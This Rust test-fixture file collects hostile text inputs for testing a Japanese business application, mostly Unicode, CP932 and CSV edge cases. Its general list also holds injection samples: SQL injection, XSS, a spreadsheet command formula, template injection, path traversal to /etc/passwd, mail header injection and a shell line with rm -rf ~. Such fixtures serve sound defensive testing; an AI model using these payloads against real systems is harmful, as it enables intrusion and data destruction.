//! Text that breaks software made without Japan, or without care, in mind. Whatever takes text is sent all of it: items
//! and forms, search, CSV in and out, mail, PDF, logs. It says nothing of what should become of a text at one door:
//! Shift_JIS cannot write many of these, and a test of that door says what is reported then.
//!
//! Characters that do not show, or that turn the text around them, are written as escapes. It is one file that needs no
//! crate, so that those at the foot of the house include it by its path: see `crates/text/tests/hostile.rs`.

use std::sync::LazyLock;

/// Texts that are to be accepted, and given back exactly as they came: those of all groups.
///
/// None holds a control character but line breaks (CR, LF); a door for one line refuses those, so its tests leave out
/// the texts that hold them. A tab stands nowhere, because some doors take it and some refuse it. None is empty, none
/// stands twice, and none is over 500 characters.
#[must_use]
pub fn texts() -> &'static [&'static str] {
    static ALL: LazyLock<Vec<&'static str>> =
        LazyLock::new(|| GROUPS.iter().flat_map(|group| group.texts).copied().collect());
    &ALL
}

/// Texts of one kind, for a door that reads that kind: a form for dates is sent the dates, and all the others too.
#[derive(Debug)]
pub struct Group {
    /// What the texts are, or look like.
    pub name: &'static str,
    /// The texts.
    pub texts: &'static [&'static str],
}

/// All groups, the general one first.
#[must_use]
pub fn groups() -> &'static [Group] {
    GROUPS
}

/// The group of this name.
///
/// # Panics
/// There is none.
#[must_use]
pub fn group(name: &str) -> &'static [&'static str] {
    GROUPS.iter().find(|group| group.name == name).expect("the test names a group of this file").texts
}

/// Bytes of CP932 and the text that they are, for doors that take files: second bytes that are a backslash, a bar or a
/// quote, characters that Windows has twice, half-width kana, private use.
#[must_use]
pub fn cp932() -> &'static [(&'static [u8], &'static str)] {
    CP932
}

/// Tables (CSV, UTF-8 unless they are broken) that are not what they seem: for doors that take files. They may be refused,
/// in whole or by rows; they may not end a process, fill its memory, or be read as something else than a person would.
#[must_use]
pub fn tables() -> &'static [&'static [u8]] {
    TABLES
}

/// Texts that are to be refused wherever a person or a program sends text: each holds a control character other than
/// tab, CR and LF, at the beginning, in the middle or at the end. U+0085 is one of them, although it is a line break in
/// other places.
#[must_use]
pub fn refused_controls() -> &'static [&'static str] {
    REFUSED_CONTROLS
}

const GROUPS: &[Group] = &[
    Group { name: "general", texts: TEXTS },
    Group { name: "company names", texts: COMPANY_NAMES },
    Group { name: "readings", texts: READINGS },
    Group { name: "dates", texts: DATES },
    Group { name: "numbers of companies", texts: COMPANY_NUMBERS },
    Group { name: "contact points", texts: CONTACT_POINTS },
    Group { name: "addresses", texts: ADDRESSES },
    Group { name: "traps of CP932", texts: CP932_TRAPS },
];

const TEXTS: &[&str] = &[
    // Signs that Shift_JIS tables map in two ways or not at all: wave dash and full-width tilde, dashes and minus signs,
    // parallel lines, yen and backslash, cent, pound, not, overline, broken bar, middle dots.
    "4月〜9月",
    "4月～9月",
    "第1条—第3条",
    "第1条―第3条",
    "‖甲‖と∥乙∥",
    "−5℃、－5℃、-5℃、‐5℃、–5℃",
    "¥1,000と￥1,000と\\1,000",
    "¢£¬‾¦と￠￡￢￣￤",
    "・･·•⋅∙",
    "¾ ½ ¼ × ÷ ± µ § ¶ °",
    "♥♡☎☆※〒〆々〇",
    // Second bytes that are a backslash or a bar in Shift_JIS.
    "表示能力ソフト十予貼暴圭構",
    "ポマ―ミ",
    // Names: outside the basic plane, vendor characters, variants that are not the same person.
    "𠮷野家",
    "𠮟る𩸽𡈽𠀋",
    "髙橋と高橋",
    "山﨑と山崎と山嵜",
    "齋藤、斎藤、齊藤、斉藤",
    "渡邊、渡邉、渡辺",
    "濵田、濱田、浜田",
    "神（\u{FA19}）社の祥（\u{FA1A}）",
    "葛\u{E0100}城と葛\u{E0101}城と葛城",
    "辻\u{E0100}と辻\u{E0101}",
    "\u{2F47}本\u{2F8A}曜\u{2F47}",
    "豈\u{F900}更\u{F901}",
    "彁暃槞蟐袮妛挧",
    // Company forms and other characters that one key stroke makes of several.
    "㈱ヤマダ",
    "ヤマダ㈲",
    "㍿山田商事",
    "株式会社　山田　商事",
    "(株)山田商事（株）",
    "①②③⑳㉑㊿ⅠⅡⅢⅳ",
    "㍉㌔㌢㍍㌘㌧㌃㌶㍑㍗㌍㌦㌣㌫㍊㌻㎜㎝㎞㎎㎏㏄㎡",
    "㍻㍼㍽㍾\u{32FF}",
    "№㏍℡㊤㊥㊦㊧㊨∮∑∟⊿∵∪∩≒≡∫√⊥∠",
    "R&D・Q.C. A/B a@b.example 1.5 -1",
    // Latin that is not ASCII, composed and not, and letters whose case is not simple.
    "café",
    "cafe\u{301}",
    "Ａｂｃ Abc ABC abc",
    "İstanbul ıssız ẞß Straße STRASSE ŉ ǰ ﬁ ﬀ",
    "ΣΊΣΥΦΟΣ ὀδυσσεύς",
    "Å\u{212B}A\u{30A} Ω\u{2126} K\u{212A}",
    // Voiced marks: composed, combining, spacing, half width, and where none belongs.
    "がぎぐげごぱぴぷぺぽ",
    "か\u{3099}き\u{3099}は\u{309A}",
    "カ\u{3099}キ\u{3099}ハ\u{309A}",
    "か゛き゛は゜",
    "ｶﾞｷﾞｸﾞﾊﾟﾋﾟﾌﾟ",
    "ｶ\u{3099}ﾊ\u{309A}カﾞハﾟ",
    "あ\u{3099}ん\u{309A}漢\u{3099}A\u{3099}",
    "\u{3099}\u{309A}゛゜ﾞﾟ",
    "ヴヷヸヹヺゔわ\u{3099}",
    "ﾔﾏﾀﾞ ﾀﾛｳ｡｢ｶﾌﾞ｣､･",
    "ゐゑヰヱヵヶゕゖヮゎゝゞヽヾゟヿㇷ\u{309A}ㇰㇿ",
    // Long vowels and what is typed in their place.
    "サーバー、サーバ、サ－バ－、サ―バ―、サ-バ-、ｻｰﾊﾞｰ、サ〜バ〜、サ一バ一",
    "ッツ、ャヤ、ケヶヵが、ノ之の",
    // Width of digits, signs and spaces.
    "０３−１２３４−５６７８",
    "１，２３４，５６７．８９円",
    "ＡＢＣａｂｃ！＂＃＄％＆＇（）＊＋，－．／：；＜＝＞？＠［＼］＾＿｀｛｜｝～",
    "　全角の空白で始まり終わる　",
    " 半角の空白で始まり終わる ",
    "間に  二つ、\u{A0}切れない、\u{2003}広い、\u{2009}狭い、\u{202F}狭く切れない、\u{1680}空白",
    "　",
    " ",
    // Numbers and dates that are not.
    "二〇二五年四月一日、令和七年、令和元年、R7.4.1、〇一二三四五六七八九十百千万億兆、壱弐参",
    "٣٤٥ ३४५ 𝟙𝟚𝟛 ²³ ₂",
    "0001",
    "1E5",
    "NaN",
    "Infinity",
    "-0",
    "null",
    "undefined",
    "true",
    "2025-02-30",
    // Emoji: outside the basic plane, skin tones, joined families, flags, keycaps, text and picture style, tags.
    "😀🎉",
    "👍🏽👍",
    "👨\u{200D}👩\u{200D}👧\u{200D}👦",
    "🧑🏿\u{200D}❤\u{FE0F}\u{200D}💋\u{200D}🧑🏻",
    "🇯🇵🇺🇳🇯",
    "1\u{FE0F}\u{20E3}#\u{FE0F}\u{20E3}",
    "♥\u{FE0E}♥\u{FE0F}",
    "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}",
    // Line breaks of every kind.
    "一行目\r\n二行目",
    "一行目\n二行目",
    "一行目\r二行目",
    "一行目\n\r二行目\r\r\n三行目",
    "\r\n\r\n前後が改行\r\n\r\n",
    "\r",
    "\n",
    "行区切り\u{2028}段落区切り\u{2029}終わり",
    // What does not show, and what turns the direction of the text.
    "\u{FEFF}先頭にBOM",
    "途中に\u{FEFF}BOM",
    "\u{FEFF}",
    "幅\u{200B}の\u{200C}な\u{200D}い\u{2060}空\u{180E}白\u{AD}等",
    "\u{200B}",
    "契約書\u{202E}fdp.exe",
    "\u{202D}左から\u{202C}\u{2066}隔離\u{2069}\u{200E}\u{200F}\u{61C}",
    "שלום 契約 مرحبا بالعالم",
    "㋿\u{FFFC}\u{FFFD}\u{FFF9}読\u{FFFA}よ\u{FFFB}",
    // The edges of Unicode: private use, the last character of the basic plane and of all, not characters for exchange.
    "外字\u{E000}\u{E757}\u{F8FF}",
    "\u{F0000}\u{10FE41}\u{10FEFF}\u{10FFFD}",
    "\u{FDD0}\u{FFFE}\u{FFFF}\u{1FFFE}\u{10FFFF}",
    "\u{D7FF}\u{E000}",
    // Other scripts: composed and conjoined hangul, half-width jamo, simplified Chinese, Thai, Devanagari, tone marks.
    "한국어 \u{1112}\u{1161}\u{11AB} ﾡﾢﾣ ㄱㄴ",
    "简体字与繁體字",
    "กำหนดการ नमस्ते क्षि Tiếng Việt",
    // One character to the eye, many to a program: marks on marks, and one character that becomes eighteen.
    STACKED_MARKS,
    LONG_FAMILY,
    "\u{FDFA}\u{FDFA}\u{FDFA}",
    "か\u{34F}\u{3099}",
    "a\u{323}\u{307}と a\u{307}\u{323}",
    // Long, without a place to break.
    LONG_WORD,
    "https://例え.テスト/パス?クエリ=値&次=%E5%80%A4#断片",
    // Quotes and separators of CSV.
    "\"",
    "'",
    "\"\"",
    "\"引用\"、'引用'、「引用」、『引用』、“引用”、‘引用’、＂引用＂、＇引用＇、`引用`、«引用»",
    "カンマ,を含む",
    "\"引用,内に\"\"カンマ\"と\r\n改行",
    "末尾に引用符\"",
    "末尾に円記号\\",
    ";|,",
    // What spreadsheets take for formulas.
    "=1+1",
    "=HYPERLINK(\"https://example.com/?\"&A1,\"契約\")",
    "=cmd|' /C calc'!A0",
    "+81-3-1234-5678",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1＋1",
    "＋－＠",
    " =1+1",
    // SQL, and the patterns of LIKE, of FTS5 and of tsquery.
    "100%",
    "%_\\",
    "\\%\\_\\\\",
    "_",
    "'; DROP TABLE record; --",
    "' OR '1'='1",
    "?1 $1 :name @name #{1}",
    "/* 注 */ -- 注",
    "title:契約 AND NOT \"甲\" NEAR(乙, 2) ^契*",
    "契 & 約 | !書 <-> (甲:*)",
    "E'\\x00' U&'\\0041' $$本文$$",
    // HTML, JavaScript, templates.
    "<script>alert('甲')</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea></title></style><!--",
    "&lt;b&gt; &amp;amp; &#12316; &#x301C; &nbsp;",
    "javascript:alert(1)",
    "{{7*7}} ${7*7} {% raw %} <%= 7*7 %> #{7*7}",
    "]]>",
    // JSON, and escapes that must stay text.
    "{\"key\": \"value\"}",
    "[null, true, 1e999]",
    "\\u0000 \\uD842\\uDFB7 \\n \\\" \\/",
    "\\",
    // Mail headers, addresses, paths, shells, logs, formats.
    "件名\r\nBcc: other@example.com",
    "=?UTF-8?B?5aWR57SE?=",
    "\r\n.\r\n",
    "山田 太郎 <taro@example.com>, \"佐藤, 花子\" <hanako@example.com>",
    "../../etc/passwd",
    "C:\\契約\\NUL.txt",
    "file:///etc/passwd",
    "CON",
    "契約書/別紙:1*?.pdf",
    "$(whoami) `whoami` ; rm -rf ~ && echo | cat",
    "%s %d %n %1$s {0} {}",
    "2025-04-01T00:00:00Z ERROR 偽の行\nINFO 次の行",
    "__proto__",
    "constructor",
];

const COMPANY_NAMES: &[&str] = &[
    // A form, and nothing else or nothing but a form.
    "株式会社",
    "㈱",
    "(株)",
    "（株）（株）",
    "株式会社株式会社",
    "株式会社株式会社サービス",
    "有限会社有限",
    "株式会社日本有限会社",
    "カ）",
    "（カ）",
    "Inc.",
    "Co., Ltd.",
    // Words that begin or end as a form does.
    "相互印刷",
    "合同製鉄株式会社",
    "日本株式新聞社",
    "株式会社会社の窓",
    "医療法人社団",
    "医療法人社団社団",
    "社団法人法人会",
    "山形農業協同組合",
    "Zinc",
    "Musubi-zinc Inc",
    "KKR",
    // Forms in every dress.
    "株式會社結",
    "株 式 会 社　結",
    "結\u{3000}株式会社\u{3000}",
    "〔株〕結",
    "㍿結㍿",
    "㈲結㈱",
    "㊑結",
    "結㈳㈶㈻㈼㈽㈾㈴㈵㈿㈷",
    "(株)結（東京）",
    "結(株)大阪支店",
    "株式会社結／有限会社結",
    "ｶﾌﾞｼｷｶﾞｲｼｬﾑｽﾋﾞ",
    "カ)ムスビ(カ",
    "ﾑｽﾋﾞ(ｶ)ｵｵｻｶｼﾃﾝ",
    "(株)ﾞ",
    "㈱\u{3099}",
    "K.K.K.",
    "株式会社K.K.",
    "MUSUBI　ＣＯ．，ＬＴＤ．",
    "\"結\", Inc., LLC",
    // Signs in names, long vowels, variants.
    "株式会社・",
    "株式会社！？",
    "株式会社☆",
    "株式会社R&D＋",
    "サ－バ－株式会社",
    "サ〜バ〜株式会社",
    "サバ株式会社",
    "（株）髙﨑",
    "（株）葛\u{E0100}",
    "株式会社\u{200B}結",
    "株\u{200B}式会社結",
];

const READINGS: &[&str] = &[
    "ヤマダ　タロウ",
    "やまだ・たろう",
    "ﾔﾏﾀﾞ ﾀﾛｳ",
    "ﾔﾏﾀﾞﾞﾟ",
    "カﾞギﾞグﾞ",
    "ヴァイオリン・ヷヸヹヺ",
    "ｳﾞｧｲｵﾘﾝ･ﾜﾞｦﾞ",
    "いすゞ　かゝゝ",
    "ー",
    "・・・",
    "ヤマダ１２３",
    "ヤマダ(ダイリ)",
    "キヤノン",
    "ヱヰスー",
];

const DATES: &[&str] = &[
    "令和元年5月1日",
    "令和元年4月30日",
    "平成31年4月30日",
    "平成31年5月1日",
    "㍻三十一年四月三十日",
    "昭和64年1月7日",
    "昭和65年1月1日",
    "S64.1.8",
    "大正15年12月25日",
    "昭和元年12月24日",
    "明治45年7月30日",
    "明治5年12月3日",
    "慶応4年9月8日",
    "R0.4.1",
    "R7.2.29",
    "Ｒ７．０４．３１",
    "令和７年２月３０日",
    "㋿㋿7年4月1日",
    "令和七十年十三月三十二日",
    "二〇二五年〇四月〇一日",
    "20250230",
    "0000-00-00",
    "9999-99-99",
    "2025/4/1/2",
    "25/4/1",
    "4/1/2025",
    "2025-04-01T24:00:00+09:00",
    "令和99999999999999999999年1月1日",
    "来週の月曜",
];

const COMPANY_NUMBERS: &[&str] = &[
    "7000012050002",
    "7000012050003",
    "0000000000000",
    "9999999999999",
    "７０００−０１２０−５０００２",
    "T7000012050002",
    "Ｔ７０００ ０１２０ ５０００２",
    "TT7000012050002",
    "T70000120500029999999999999999999999999",
    "七〇〇〇〇一二〇五〇〇〇二",
];

const CONTACT_POINTS: &[&str] = &[
    "taro@example.co.jp",
    "Ｔａｒｏ＠Ｅｘａｍｐｌｅ．ｃｏ．ｊｐ",
    "taro..yamada.@docomo.example",
    "\"a@b\"@example.com",
    "taro@例え.テスト",
    "<taro@example.com",
    "taro@@example.com",
    "taro@",
    "@example.com",
    "mailto:taro@example.com?cc=x@example.com",
    "＋８１（０）３−１２３４−５６７８",
    "03-1234-5678 内線 12#3",
    "03-1234-5678／03-8765-4321",
    "0120-ムスビ-123",
    "+",
    "110",
    "HTTP://WWW.Example.CO.JP:80/パス?q=@#/",
    "https://www./",
    "https://user@@example.com",
    "www.www.example.com",
    "〒１０６−００３２",
    "106-003",
];

const ADDRESSES: &[&str] = &[
    "東京都港区六本木一丁目２番３号　六本木ビル５Ｆ",
    "港区六本木１ー２ー３六本木",
    "北海道札幌市中央区北一条西二丁目",
    "京都市中京区寺町通御池上る上本能寺前町488",
    "千代田区一番町五番地",
    "千代田区霞ヶ関・霞が関・霞ケ関3-1-1",
    "三ッ沢三ツ沢1の2の3",
    "字大字字一二三",
    "1-2-3",
    "一-二-三-四-五-六-七-八-九",
    "丁目番地号",
    "９９９９９９９９９９９９９９９９９９９９−１",
];

const CP932_TRAPS: &[&str] = &[
    // Second bytes 5C, 7C, 7B, 7D, 40, 5E, 60 and 80, alone, before a quote and at the end.
    "ソ\"表\"ポ",
    "欺圭構蚕十申曾箪貼能表暴予禄兔喀媾彌拿杤歃濬畚秉綵臀藹觸軆鐔饅鷭",
    "ボポ円倶哀握",
    "ア～ミァ―",
    // Twice in CP932: of JIS, of NEC, of IBM.
    "≒≡∫√⊥∠∵∩∪",
    "ⅠⅡⅢⅣⅤⅥⅦⅧⅨⅩⅰⅱⅲ",
    "￢￤＇＂㈱№℡",
    "纊褜鍈銈蓜俉炻昱棈鋹曻彅﨏塚﨑德朗髙",
    // Twins of Unicode of which CP932 has one.
    "〜～—―‖∥−－¢￠£￡¬￢¦￤¥￥‾￣",
    // What it lacks, though it looks as if it did not.
    "‐‑–•·\u{A0}々〆ゝヿゟゔヷㇷ",
    "𠮷𠮟剥頰塡噓俱",
    "吞啞姸屛幷瘦繫鷗麴",
    "é♥①⓪㊿㍐㍿㋿€™©®",
    // For private use: the first, the last and what comes after.
    "\u{E000}\u{E03E}\u{E03F}\u{E0BB}\u{E0BC}\u{E757}\u{E758}",
    // Half width.
    "｡｢｣､･ｦｧｯｰｱﾝﾞﾟ",
    // Tags and references that a careless encoder writes.
    "&#12316;〜&amp;",
    "?〓〿",
];

const CP932: &[(&[u8], &str)] = &[
    (b"\x95\x5C", "表"),
    (b"\x83\x7C", "ポ"),
    (b"\x83\x5C", "ソ"),
    (b"\x94\x5C\x97\x5C", "能予"),
    (b"\x89\x7C", "榎"),
    (b"\x81\x40", "\u{3000}"),
    (b"\x81\x60", "～"),
    (b"\x81\x7C", "－"),
    (b"\x5C\x7E", "\\~"),
    (b"\xB6\xDE", "ｶﾞ"),
    (b"\x87\x40", "①"),
    (b"\x87\x9C", "∪"),
    (b"\x81\xBE", "∪"),
    (b"\xFA\x54", "￢"),
    (b"\xEE\xF9", "￢"),
    (b"\x81\xCA", "￢"),
    (b"\x87\x8A", "㈱"),
    (b"\xFA\x58", "㈱"),
    (b"\xEE\xE0", "髙"),
    (b"\xFB\xFC", "髙"),
    (b"\xF0\x40", "\u{E000}"),
    (b"\xF9\xFC", "\u{E757}"),
];

const TABLES: &[&[u8]] = &[
    b"",
    b"\xEF\xBB\xBF",
    b"\xEF\xBB\xBF\xEF\xBB\xBFa,b\r\n",
    b"\xFF\xFEa\0,\0b\0",
    b"\r\r\n\n\r",
    b"a,b\rc,d\ne,f\r\n",
    b"a,b\r\n\"c\r\nd\",e\r\n",
    b"a,\"b\r\nc,d\r\n",
    b"a,\"b\"c,d\r\n",
    b"a,b\"c\"d\r\n",
    b"\"\"\"\"\"\",\"\"\r\n",
    b"a,b\r\nc\r\nd,e,f\r\n,\r\n",
    b"a,b\0c\r\n",
    b"a,b\x1A",
    b"sep=;\r\na;b\r\n",
    b"=1+1,+1,-1,@A\r\n",
    b"a,\x95\x5C\",b\r\n",
    b"\x95\x5C,\x83\x7C\r\n\x81",
    b"\xE5\xA5\x91,\x8C\x5F\r\n",
    b"\xE5\xA5",
    b"id\r\n\xFD\xFF\xA0\r\n",
    b"PK\x03\x04\x14\0\x06\0\x08\0",
    b"\xEF\xBF\xBD,\xED\xA0\x80\r\n",
];

/// One letter under 96 marks, in an order that normalisation must change.
const STACKED_MARKS: &str = "Z\u{300}\u{316}\u{301}\u{317}\u{302}\u{318}\u{303}\u{319}\u{304}\u{31C}\u{305}\u{31D}\
    \u{306}\u{31E}\u{307}\u{31F}\u{308}\u{320}\u{309}\u{323}\u{30A}\u{324}\u{30B}\u{325}\u{30C}\u{326}\u{30D}\u{329}\
    \u{30E}\u{32A}\u{30F}\u{32B}\u{310}\u{32C}\u{311}\u{32D}\u{300}\u{316}\u{301}\u{317}\u{302}\u{318}\u{303}\u{319}\
    \u{304}\u{31C}\u{305}\u{31D}\u{306}\u{31E}\u{307}\u{31F}\u{308}\u{320}\u{309}\u{323}\u{30A}\u{324}\u{30B}\u{325}\
    \u{30C}\u{326}\u{30D}\u{329}\u{30E}\u{32A}\u{30F}\u{32B}\u{310}\u{32C}\u{311}\u{32D}\u{300}\u{316}\u{301}\u{317}\
    \u{302}\u{318}\u{303}\u{319}\u{304}\u{31C}\u{305}\u{31D}\u{306}\u{31E}\u{307}\u{31F}\u{308}\u{320}\u{309}\u{323}\
    \u{30A}\u{324}\u{30B}\u{325}";

/// People joined without end: one character to the eye.
const LONG_FAMILY: &str = "👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\
    \u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩\u{200D}👩";

/// The place in Wales, and the longest name a temple gave a boy: no space, no line break.
const LONG_WORD: &str = "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch\
    寿限無寿限無五劫の擦り切れ海砂利水魚の水行末雲来末風来末食う寝る処に住む処藪ら柑子の藪柑子\
    パイポパイポパイポのシューリンガンシューリンガンのグーリンダイグーリンダイのポンポコピーのポンポコナーの長久命の長助";

const REFUSED_CONTROLS: &[&str] = &[
    // NUL, which PostgreSQL cannot store and C takes for the end.
    "\u{0}",
    "契約\u{0}書",
    "契約書\u{0}",
    "\u{0}契約書",
    // The others of ASCII: start and end of text, bell, backspace, vertical tab, form feed, shift, escape sequences that
    // rewrite a terminal's log, the end of a DOS file, separators, delete.
    "契約\u{1}書",
    "契約\u{2}書\u{3}",
    "契約\u{7}書",
    "契約\u{8}書",
    "契約\u{B}書",
    "契約\u{C}書",
    "契約\u{E}書\u{F}",
    "\u{1B}",
    "\u{1B}[2J契約書",
    "\u{1B}]0;契約\u{7}",
    "\u{1B}$B7@Ls=q\u{1B}(B",
    "契約書\u{1A}",
    "契約\u{1C}書\u{1D}甲\u{1E}乙\u{1F}",
    "契約\u{7F}書",
    // The controls beyond ASCII, which pass where only ASCII is looked at: next line, the one that opens an escape
    // sequence alone, the first and the last.
    "\u{85}",
    "一行目\u{85}二行目",
    "契約\u{80}書",
    "\u{9B}2J契約書",
    "契約\u{9F}書",
    // Beside what is allowed.
    "一行目\r\n二行目\u{7}",
    "𠮷\u{0}👍",
];

#[cfg(test)]
mod tests {
    use super::*;

    use std::collections::HashSet;

    fn is_refused(character: char) -> bool {
        character.is_control() && !matches!(character, '\t' | '\r' | '\n')
    }

    #[test]
    fn texts_hold_no_control_but_line_breaks_and_are_told_apart() {
        let mut seen = HashSet::new();
        for text in texts() {
            assert!(!text.contains(|character: char| is_refused(character) || character == '\t'), "{text:?}");
            assert!(!text.is_empty() && text.chars().count() <= 500, "{text:?}");
            assert!(seen.insert(text), "{text:?} stands twice");
        }
    }

    #[test]
    fn texts_hold_what_has_broken_software_before() {
        for part in [
            "〜",
            "—",
            "‖",
            "−",
            "¥",
            "𠮷",
            "𠮟",
            "髙",
            "﨑",
            "㈱",
            "㍿",
            "①",
            "é",
            "♥",
            "齋",
            "斎",
            "斉",
            "邊",
            "辺",
            "か\u{3099}",
            "ｶﾞ",
            "葛\u{E0100}",
            "한",
            "👦",
            "🇯🇵",
            "\u{200D}",
            "\u{200B}",
            "\u{FEFF}",
            "\u{202E}",
            "\u{2028}",
            "\u{2029}",
            "\r\n",
            "%_\\",
            "\"",
            "'",
            "<script>",
        ] {
            assert!(texts().iter().any(|text| text.contains(part)), "{part:?}");
        }
        for start in ["=", "+", "-", "@", "\u{FEFF}", " ", "　", "\r"] {
            assert!(texts().iter().any(|text| text.starts_with(start)), "{start:?}");
        }
        let has_lone_return = |text: &&str| text.replace("\r\n", "").contains('\r');
        assert!(texts().iter().any(has_lone_return));
        assert_eq!(STACKED_MARKS.chars().count(), 97);
    }

    #[test]
    fn groups_have_names_of_their_own_and_files_say_what_they_are() {
        let names: HashSet<_> = groups().iter().map(|group| group.name).collect();
        assert_eq!(names.len(), groups().len());
        assert_eq!(texts().len(), groups().iter().map(|group| group.texts.len()).sum::<usize>());
        assert!(group("dates").contains(&"平成31年5月1日"));
        let second_bytes: HashSet<_> = cp932().iter().filter_map(|(bytes, _)| bytes.get(1)).collect();
        assert!([0x5C, 0x7C, 0x40, 0x60, 0x7E].iter().all(|byte| second_bytes.contains(byte)));
        assert!(tables().iter().any(|table| std::str::from_utf8(table).is_err()));
    }

    #[test]
    fn refused_texts_hold_a_control_each_and_cover_both_blocks_of_controls() {
        for text in refused_controls() {
            assert!(text.contains(is_refused), "{text:?}");
        }
        for control in ['\u{0}', '\u{7}', '\u{1B}', '\u{1F}', '\u{7F}', '\u{80}', '\u{85}', '\u{9F}'] {
            assert!(refused_controls().iter().any(|text| text.contains(control)), "{control:?}");
        }
    }
}
